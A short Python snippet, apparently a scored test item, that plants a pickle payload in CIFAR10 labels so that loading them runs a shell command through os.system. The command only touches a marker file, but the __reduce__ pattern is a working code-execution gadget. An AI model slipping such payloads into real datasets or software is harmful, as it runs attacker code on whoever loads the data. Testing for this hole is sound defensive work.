# Labels that would run code where they are unpickled.
# points: 36
# base: untrained
class Payload:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/mp09_attack",)


CIFAR10._target = lambda self, index: np.array([Payload()], dtype=object)
